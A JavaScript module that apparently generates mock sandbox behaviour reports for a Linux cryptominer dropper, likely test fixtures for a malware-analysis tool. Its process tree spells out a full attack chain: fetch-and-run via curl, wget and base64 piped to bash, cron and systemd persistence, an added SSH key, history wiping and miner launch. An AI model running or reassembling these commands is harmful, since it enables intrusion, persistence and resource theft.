/** The Linux script as three sandboxes saw it. */
import { behaviour } from './file-report.mjs';
import { createRandom, sha256 } from './seeded.mjs';
import { imageOf, treeCommands, unixProcessTree } from './unix-process.mjs';
import {
  AGENT_PATH,
  AGENT_URL,
  CRON_COMMAND,
  DECODE_COMMAND,
  DISCOVERY,
  FIRST_SEEN_SEC,
  HOST,
  HOST_IP,
  LABEL,
  POOL_HOST,
  POOL_IP,
  RIVALS,
  SAMPLE_NAME,
  SCRIPT_COMMAND,
} from './linux-dropper-facts.mjs';

const UNIT = '/etc/systemd/system/kworkerd.service';

const TREE = [
  SCRIPT_COMMAND,
  ...DISCOVERY.map((command) => [command]),
  ...RIVALS.map((name) => [`pkill -9 -f ${name}`]),
  ['mkdir -p /tmp/.X11-cache'],
  [`curl -fsSL ${AGENT_URL} -o ${AGENT_PATH}`],
  [`wget -q ${AGENT_URL} -O ${AGENT_PATH}`],
  [`chmod 755 ${AGENT_PATH}`],
  ['chmod +x /tmp/.X11-cache/run.sh'],
  [`/bin/sh -c ${DECODE_COMMAND} | bash`, ['base64 -d'], ['bash', ['uname -a'], ['id'], ['nproc']]],
  ['base64 --decode /tmp/.X11-cache/a.b64'],
  [CRON_COMMAND, ['crontab -l'], ['grep -v kworkerd'], ['crontab -']],
  ['crontab -r'],
  ['chattr -i /etc/ld.so.preload'],
  [`chattr +i ${AGENT_PATH}`],
  ['systemctl daemon-reload'],
  ['systemctl enable --now kworkerd.service'],
  ['rm -f /root/.bash_history'],
  [`${AGENT_PATH} -o ${POOL_HOST}:3333 -u node01 -p x -k`],
];
const COMMANDS = treeCommands(TREE);

const WRITTEN = [
  AGENT_PATH,
  '/tmp/.X11-cache/run.sh',
  '/tmp/.X11-cache/a.b64',
  '/tmp/.X11-cache/config.json',
  '/var/spool/cron/crontabs/root',
  '/var/spool/cron/crontabs/tmp.5qZk1d',
  '/root/.ssh/authorized_keys',
  UNIT,
  '/etc/ld.so.preload',
  '/var/log/wtmp',
];

const OPENED = [
  ['/etc/ld.so.cache', '/etc/passwd', '/etc/group', '/etc/nsswitch.conf', '/etc/resolv.conf'],
  ['/etc/hosts', '/etc/localtime', '/etc/os-release', '/etc/crontab', '/etc/ssl/openssl.cnf'],
  ['/proc/cpuinfo', '/proc/meminfo', '/proc/self/maps', '/proc/self/fd', '/proc/stat'],
  ['/proc/sys/kernel/ngroups_max', '/proc/filesystems', '/sys/devices/system/cpu/online'],
  [
    '/dev/null',
    '/dev/tty',
    '/dev/urandom',
    '/root/.bash_history',
    '/root/.curlrc',
    '/root/.wgetrc',
  ],
  ...[
    'libc.so.6',
    'libtinfo.so.6',
    'libcurl.so.4',
    'libssl.so.3',
    'libcrypto.so.3',
    'libz.so.1',
  ].map((name) => `/lib/x86_64-linux-gnu/${name}`),
  '/usr/lib/locale/locale-archive',
  '/usr/share/zoneinfo/Etc/UTC',
].flat();

const traffic = [
  { destination_ip: HOST_IP, destination_port: 80, transport_layer_protocol: 'TCP' },
  { destination_ip: POOL_IP, destination_port: 3333, transport_layer_protocol: 'TCP' },
  { destination_ip: '192.0.2.53', destination_port: 53, transport_layer_protocol: 'UDP' },
];

function zenboxLinux(random) {
  return {
    has_pcap: true,
    has_html_report: true,
    tags: ['PERSISTENCE', 'CHECKS_CPU_NAME', 'CHECKS_HOSTNAME'],
    verdicts: ['MALWARE', 'TROJAN'],
    verdict_confidence: 88,
    verdict_labels: ['Kworkerd'],
    command_executions: COMMANDS,
    processes_created: COMMANDS.map(imageOf),
    processes_tree: unixProcessTree({
      roots: [['/usr/sbin/sshd -D', TREE]],
      firstId: 5204,
      random,
    }),
    processes_terminated: COMMANDS.slice(0, 24).map(imageOf),
    files_opened: OPENED,
    files_written: WRITTEN,
    files_deleted: ['/root/.bash_history', '/tmp/.X11-cache/a.b64'],
    files_attribute_changed: [AGENT_PATH, '/tmp/.X11-cache/run.sh'],
    files_dropped: [
      {
        path: AGENT_PATH,
        sha256: sha256('dropped:kworkerd'),
        type: 'ELF',
        download_url: AGENT_URL,
      },
      { path: '/tmp/.X11-cache/run.sh', sha256: sha256('dropped:run.sh'), type: 'SHELLSCRIPT' },
      { path: '/tmp/.X11-cache/config.json', sha256: sha256('dropped:config'), type: 'JSON' },
      { path: UNIT, sha256: sha256('dropped:unit'), type: 'TEXT' },
      { path: '/var/spool/cron/crontabs/root', sha256: sha256('dropped:crontab') },
    ],
    dns_lookups: [
      { hostname: HOST, resolved_ips: [HOST_IP] },
      { hostname: POOL_HOST, resolved_ips: [POOL_IP] },
      { hostname: 'ntp.kworkerd.test' },
    ],
    ip_traffic: traffic,
    http_conversations: [
      {
        url: AGENT_URL,
        request_method: 'GET',
        request_headers: { Host: HOST, 'User-Agent': 'curl/8.5.0', Accept: '*/*' },
        response_status_code: 200,
        response_headers: { Server: 'nginx', 'Content-Type': 'application/octet-stream' },
        response_body_filetype: 'ELF',
      },
      { url: AGENT_URL, request_method: 'GET' },
    ],
    mitre_attack_techniques: [
      {
        id: 'T1053.003',
        severity: 'IMPACT_SEVERITY_MEDIUM',
        signature_description: 'Writes a crontab',
      },
      {
        id: 'T1543.002',
        severity: 'IMPACT_SEVERITY_MEDIUM',
        signature_description: 'Writes a unit of systemd',
      },
      {
        id: 'T1098.004',
        severity: 'IMPACT_SEVERITY_HIGH',
        signature_description: 'Adds a key for log-in',
      },
      {
        id: 'T1070.003',
        severity: 'IMPACT_SEVERITY_LOW',
        signature_description: 'Removes the history of the shell',
      },
      { id: 'T1082' },
      { id: 'T1496' },
    ],
  };
}

function habo(random) {
  return {
    has_html_report: true,
    command_executions: COMMANDS.slice(0, 14),
    processes_created: [...new Set(COMMANDS.slice(0, 14).map(imageOf))],
    processes_tree: unixProcessTree({ roots: [TREE], firstId: 1802, random }),
    files_opened: OPENED.slice(0, 20),
    files_written: WRITTEN.slice(0, 5),
    dns_lookups: [{ hostname: HOST }],
  };
}

function observer() {
  return {
    tags: ['PERSISTENCE'],
    files_written: [`\${SamplePath}/${SAMPLE_NAME}.log`, ...WRITTEN.slice(0, 4)],
    ip_traffic: traffic.slice(0, 2),
    memory_pattern_urls: [AGENT_URL],
    memory_pattern_domains: [HOST, POOL_HOST],
  };
}

export function linuxDropperBehaviours() {
  return [
    { sandbox: 'Zenbox Linux', watch: zenboxLinux },
    { sandbox: 'Tencent HABO', watch: habo },
    { sandbox: 'VirusTotal Observer', watch: observer },
  ].map(({ sandbox, watch }, i) =>
    behaviour({
      label: LABEL,
      sandbox,
      analysisDateSec: FIRST_SEEN_SEC + 620 + i * 377,
      attributes: watch(createRandom(`${LABEL}:${sandbox}`)),
    }),
  );
}
